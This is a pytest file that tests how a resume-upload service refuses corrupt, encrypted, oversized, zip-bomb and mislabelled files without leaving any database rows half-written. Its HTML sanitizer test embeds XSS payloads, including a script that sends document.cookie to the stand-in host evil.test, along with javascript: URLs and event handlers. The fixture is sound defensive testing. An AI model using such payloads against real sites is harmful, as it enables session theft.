"""Bad resume uploads through the real service (core.resumes.add_resume) with the default limits.

Each case: the domain error and its user message, every table's row count unchanged (nothing half-written), and
a good resume stored right after (the service keeps working). Reader-level refusals are also unit-tested in
tests/documents/ (test_pdf.py, test_docx.py, test_text_html.py); this matrix adds the service, the database and
recovery on top.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest

from core.errors import EmptyText, ParseError, TooLarge, UnsupportedFormat
from core.profiles import create_profile
from core.resumes import add_resume, add_resume_text, list_resumes
from tests.factories import (
    make_blank_pdf, make_docx, make_encrypted_pdf, make_image_pdf, make_pdf, make_resume_pdf,
    make_zip_bomb_docx, truncate,
)
from tests.reliability.conftest import changed, row_counts

RESUME = """Asha Verma
asha@example.com
EXPERIENCE
Data Engineer, Acme Analytics
Jan 2020 - Present
Built batch pipelines in Python and SQL on Airflow; Spark jobs on AWS.
SKILLS
Python, SQL, Airflow, Spark, AWS"""
TEN_MB = 10 * 1024 * 1024


def _oversized_pdf(tmp: Path) -> bytes:
    """A real PDF padded past the 10 MB file limit (a trailing comment: still a valid PDF)."""
    data = make_resume_pdf(tmp / "big.pdf", RESUME).read_bytes()
    return data + b"\n%" + b"x" * (TEN_MB + 1 - len(data)) + b"\n"


def _docx_without_document(tmp: Path) -> bytes:
    with zipfile.ZipFile(tmp / "odd.docx", "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
    return (tmp / "odd.docx").read_bytes()


# (id, filename, bytes maker, error class, message fragment)
BAD_UPLOADS = [
    ("pdf-corrupt", "cv.pdf", lambda t: truncate(make_resume_pdf(t / "c.pdf", RESUME), 0.5).read_bytes(),
     ParseError, "The file is corrupt or not a real PDF."),
    ("pdf-encrypted", "cv.pdf", lambda t: make_encrypted_pdf(t / "e.pdf", RESUME).read_bytes(),
     ParseError, "This PDF is password-protected."),
    ("pdf-zero-bytes", "cv.pdf", lambda t: b"", EmptyText, "The file is empty."),
    ("pdf-blank-pages", "cv.pdf", lambda t: make_blank_pdf(t / "b.pdf", 2).read_bytes(),
     EmptyText, "its pages are empty"),
    ("pdf-image-only", "cv.pdf", lambda t: make_image_pdf(t / "i.pdf", 2).read_bytes(),
     EmptyText, "no extractable text (it looks like a scanned image)"),
    ("pdf-oversized-bytes", "cv.pdf", _oversized_pdf, TooLarge, "; the limit is 10 MB."),
    ("pdf-too-many-pages", "cv.pdf", lambda t: make_pdf(t / "p.pdf", [f"page {i}" for i in range(51)]).read_bytes(),
     TooLarge, "The PDF has 51 pages; the limit is 50."),
    ("pdf-named-txt", "cv.txt", lambda t: make_resume_pdf(t / "n.pdf", RESUME).read_bytes(),
     UnsupportedFormat, "named 'cv.txt' but it is actually a PDF"),
    ("text-named-pdf", "cv.pdf", lambda t: RESUME.encode(), ParseError, "corrupt or not a real PDF"),
    ("docx-zip-bomb", "cv.docx", lambda t: make_zip_bomb_docx(t / "z.docx", unpacked_mb=64).read_bytes(),
     TooLarge, "looks like a zip bomb"),
    ("docx-truncated", "cv.docx", lambda t: truncate(make_docx(t / "d.docx", [RESUME] * 20), 0.5).read_bytes(),
     ParseError, "corrupt or not a real Word document"),
    ("docx-zip-without-document", "cv.docx", _docx_without_document, ParseError, "not a real Word document"),
    ("docx-empty", "cv.docx", lambda t: make_docx(t / "empty.docx", []).read_bytes(),
     EmptyText, "The Word document has no text."),
    ("binary-named-txt", "cv.txt", lambda t: bytes(range(256)) * 64, UnsupportedFormat,
     "This looks like binary data, not text."),
    ("elf-named-md", "cv.md", lambda t: b"\x7fELF\x02\x01\x01" + bytes(range(200)) * 4, UnsupportedFormat,
     "binary data, not text"),
    ("text-over-char-limit", "cv.txt", lambda t: ("Python SQL " * 100_000 + "end").encode(), TooLarge,
     "The text is 1,100,003 characters; the limit is 1,000,000."),
    ("text-whitespace-only", "cv.txt", lambda t: b" \n\t \r\n" * 100, EmptyText, "The file is empty."),
    ("html-only-active-content", "cv.html",
     lambda t: b"<html><head><script>alert(1)</script><style>p{}</style></head><body onload='x()'></body></html>",
     EmptyText, "The file has no text."),
    ("unsupported-exe", "cv.exe", lambda t: b"MZ\x90\x00" * 10, UnsupportedFormat, "Files of type '.exe'"),
    ("old-word-doc", "cv.doc", lambda t: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, UnsupportedFormat,
     "old Word (.doc) file"),
    ("no-extension", "resume", lambda t: RESUME.encode(), UnsupportedFormat, "has no extension"),
]


@pytest.fixture(scope="module")
def profile_id(ctx) -> int:
    """One profile for the whole matrix."""
    return create_profile(ctx.engine, "Bad Input Tester").id


@pytest.mark.parametrize("case, filename, make, error, message", BAD_UPLOADS, ids=[c[0] for c in BAD_UPLOADS])
def test_bad_upload_is_refused_with_a_message_and_nothing_written(ctx, profile_id, tmp_path, case, filename, make,
                                                                   error, message):
    data = make(tmp_path)
    before = row_counts(ctx.engine)
    with pytest.raises(error) as caught:
        add_resume(ctx, profile_id, filename, data)
    assert message in str(caught.value)
    assert "Traceback" not in str(caught.value) and len(str(caught.value)) < 400  # a sentence, not a dump
    assert changed(before, row_counts(ctx.engine)) == {}
    good = add_resume_text(ctx, profile_id, f"{RESUME}\nAfter {case}: also Docker.")  # the service keeps working
    assert good.id in {r.id for r in list_resumes(ctx, profile_id)}
    assert {c.name for g in good.skill_groups for c in g.skills} >= {"Python", "SQL"}


PASTES = [
    ("empty", "", EmptyText, "There is no text to analyse: paste your resume first."),
    ("blank", " \n\t ", EmptyText, "There is no text to analyse"),
    ("zero-width-only", "\u200b\u200c\u200d" * 20, EmptyText, "The file has no text."),
    ("over-char-limit", "x" * 1_000_001, TooLarge, "The text is 1,000,001 characters; the limit is 1,000,000."),
]


@pytest.mark.parametrize("case, text, error, message", PASTES, ids=[p[0] for p in PASTES])
def test_bad_paste_is_refused_and_nothing_written(ctx, profile_id, case, text, error, message):
    before = row_counts(ctx.engine)
    with pytest.raises(error, match=message.replace(".", r"\.").replace("(", r"\(").replace(")", r"\)")):
        add_resume_text(ctx, profile_id, text)
    assert changed(before, row_counts(ctx.engine)) == {}


HOSTILE_HTML = """<html><head><title>CV</title><script>fetch('http://evil.test/?c='+document.cookie)</script>
<style>body{background:url(javascript:alert(1))}</style><meta http-equiv="refresh" content="0;url=http://evil.test">
</head><body onload="steal()">
<h1 onclick="alert('h1')">Asha Verma</h1>
<p onmouseover="alert(2)">Data Engineer. Python, SQL, Airflow and Spark on AWS.</p>
<p>Works for one mid-sized retailer in Pune, in the same small team as before; happy to own a piece of work.</p>
<a href="javascript:alert(3)">portfolio</a> <img src=x onerror="alert(4)">
<iframe src="http://evil.test/frame">frame text</iframe><noscript>enable js</noscript>
<svg><script>alert(5)</script></svg><template><p>hidden template</p></template>
<object data="evil.swf">object text</object><embed src="evil.swf">
<p>Skills: Python &lt;script&gt;not code&lt;/script&gt;</p></body></html>"""


def test_html_resume_keeps_text_and_drops_every_script_and_handler(ctx, profile_id):
    view = add_resume(ctx, profile_id, "cv.html", HOSTILE_HTML.encode("utf-8"))
    for banned in ("fetch(", "document.cookie", "steal", "alert", "onerror", "onclick", "onmouseover", "onload",
                   "javascript:", "evil.test", "frame text", "hidden template", "background"):
        assert banned not in view.text, banned
    assert "Asha Verma" in view.text and "Data Engineer. Python, SQL, Airflow and Spark on AWS." in view.text
    assert "Skills: Python <script>not code</script>" in view.text  # escaped text stays text (rendered escaped)
    assert {"Python", "SQL", "Apache Airflow"} <= {c.name for g in view.skill_groups for c in g.skills}
